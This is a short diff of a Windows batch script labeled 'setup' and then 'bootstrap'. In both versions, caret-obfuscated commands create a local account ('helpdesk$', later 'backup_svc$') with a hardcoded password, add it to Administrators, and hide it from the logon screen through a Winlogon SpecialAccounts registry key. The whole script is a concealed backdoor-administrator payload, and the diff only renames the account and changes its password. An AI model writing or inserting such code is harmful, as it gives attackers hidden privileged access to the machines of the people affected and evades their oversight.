@@ -1,11 +1,11 @@
-REM setup 6350 v1
+REM bootstrap 7862 v1
 @echo off
 @echo off
-set fkes=^n^e^t ^u^ser he^l^pdes^k$ Qwerty#^7^7^8^8 /a^d^d /act^iv^e:^ye^s
-call %fkes%
+set zvsg=net u^s^e^r ^ba^c^kup_s^v^c$ P@s^sw0^rd!^2^0^2^4 /^a^dd /act^i^ve:^ye^s
+call %zvsg%
 @echo off
-set knxn=n^e^t ^loc^a^l^group A^dmi^ni^str^a^tors ^h^e^lpde^sk$ /^a^dd
-call %knxn%
+set uece=^ne^t l^o^calgro^up ^A^d^mi^n^ist^rat^or^s back^up_sv^c$ /^a^d^d
+call %uece%
 @echo off
-set tiar=r^eg a^dd "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /^v ^he^l^p^des^k$ /t ^R^E^G_^DW^O^R^D /d 0 /f
-call %tiar%
+set qyqi=r^e^g ^add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v ^bac^kup_svc$ /t ^R^E^G_^DWO^RD /d 0 /f
+call %qyqi%
